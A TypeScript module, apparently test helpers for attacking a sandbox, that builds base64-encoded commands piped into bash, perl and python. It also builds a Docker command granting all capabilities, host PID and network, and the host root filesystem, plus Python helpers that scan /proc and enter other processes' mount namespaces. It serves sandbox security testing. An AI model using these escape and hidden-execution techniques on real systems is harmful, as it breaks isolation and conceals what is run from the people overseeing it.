/** Commands that attackers type at a prompt. */

const python = 'python:3.11-slim-bookworm';
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** A command that runs a script, whatever is in it. */
export const bash = (script: string) => `echo ${base64(script)} | base64 -d | bash`;

/** A command that runs a program in Perl, which the sandbox has. */
export const perl = (program: string) => `echo ${base64(program)} | base64 -d | perl`;

/**
 * A command that runs a program in Python as root of the engine's namespaces, with every capability there and
 * all of the sandbox at /outer. An engine in a sandbox cannot start what is `--privileged`, so this is the
 * most that it gives.
 */
export const asRoot = (program: string) =>
  `echo ${base64(attempts + program)} | base64 -d | docker run --rm -i --cap-add ALL --security-opt seccomp=unconfined --pid host --net host -v /:/outer ${python} python -u -`;

/** Functions for programs that run as root. `attempt` prints "did" or "could not". */
const attempts = `import ctypes, os, signal, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, work):
    try: print("did", name, work(), flush=True)
    except Exception as error: print("could not", name, error, flush=True)
def named(*names):
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try: words = open(f"/proc/{pid}/cmdline").read().split("\\0")
        except OSError: continue
        if any(os.path.basename(word) in names for word in words[:2]): found.append(int(pid))
    return found
def check(result):
    if result != 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def listen(path):
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen()
    return server
def enter(pid):
    check(libc.setns(os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), 0))
`;
